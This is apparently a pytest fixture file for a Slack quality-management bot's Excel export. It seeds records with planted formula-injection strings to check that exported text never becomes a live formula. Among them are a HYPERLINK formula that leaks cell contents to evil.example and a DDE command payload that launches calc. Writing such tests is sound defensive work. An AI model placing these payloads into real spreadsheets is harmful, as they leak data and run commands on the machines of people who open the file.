"""A workspace with one of everything the workbook shows, including text that must not become a formula."""
from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import event

from bot.outbox import copies
from bot.outbox.queue import Copy
from bot.qms import directory, threads
from bot.qms.export.workbook import build
from bot.qms.sheets import Window
from models.types import utcnow

TEAM = "T111"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
PLANTED = {"title": FORMULA_TITLE, "customer": "+1 555 0100", "description": "@SUM(A1:A9)\x07 rang a bell\x1b",
           "process": "-Delivery"}
NAMES = {"U_ALICE": "Alice Archer", "U_BOB": "=Bob", "U_MANAGER": "Mona Manager"}


@dataclass
class Seeded:
    ncs: list[str]
    approvals: list[str]
    reply_text: str


@pytest.fixture
def seeded(make, session_factory) -> Seeded:
    """NC-1 closed, NC-2 open with planted formula-looking text; APR-1 approved, APR-2 rejected; two replies
    on NC-1 (one edited, one deleted); the people's names cached as users.info gave them."""
    ncs = [make.nc("closed"), make.nc("open", **PLANTED)]
    approvals = [make.approval(decided_by={"U_MANAGER": True}, link="https://drive.example/design-v3"),
                 make.approval(title="Supplier: Bolt & Nut Ltd", decided_by={"U_MANAGER": False})]
    now = utcnow()
    with session_factory.begin() as session:
        for user_id, name in NAMES.items():
            directory.store_user(session, team_id=TEAM, user={"id": user_id, "profile": {"display_name": name}},
                                 now=now)
        card = copies.find(session, team_id=TEAM, copy=Copy("nc", ncs[0]))
        for n, text in enumerate(("Checked the drive: rev B is gone.", "=cmd|' /C calc'!A0")):
            threads.capture_reply(session, team_id=TEAM, channel=card.channel, thread_ts=card.ts,
                                  ts=f"1800000000.00000{n}", user="U_BOB", text=text, now=now + timedelta(seconds=n),
                                  permalink=f"https://example.slack.com/archives/{card.channel}/p180000000000000{n}")
        threads.edit_reply(session, team_id=TEAM, channel=card.channel, ts="1800000000.000000",
                           text="Checked the drive: rev B is gone for good.", now=now + timedelta(seconds=5))
        threads.delete_reply(session, team_id=TEAM, channel=card.channel, ts="1800000000.000001",
                             now=now + timedelta(seconds=6))
    return Seeded(ncs, approvals, "Checked the drive: rev B is gone for good.")


def export(session_factory, folder: Path, verifier=None, **window) -> tuple[Path, object]:
    out = folder / "workbook.xlsx"
    with session_factory.reads() as session:
        built = build(session, window=Window(TEAM, **window), out=out, generated_by="U_MANAGER", now=utcnow(),
                      verifier=verifier and verifier(session))
    return out, built


def rows_of(path: Path) -> dict[str, list[tuple]]:
    """Every sheet's rows (header first), read back as Excel would."""
    workbook = load_workbook(path)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets}


def as_dicts(rows: list[tuple]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


class Statements:
    """Counts the SQL statements an engine runs while open."""

    def __init__(self, engine):
        self.engine, self.count = engine, 0

    def _seen(self, *args):
        self.count += 1

    def __enter__(self):
        event.listen(self.engine, "before_cursor_execute", self._seen)
        return self

    def __exit__(self, *exc):
        event.remove(self.engine, "before_cursor_execute", self._seen)
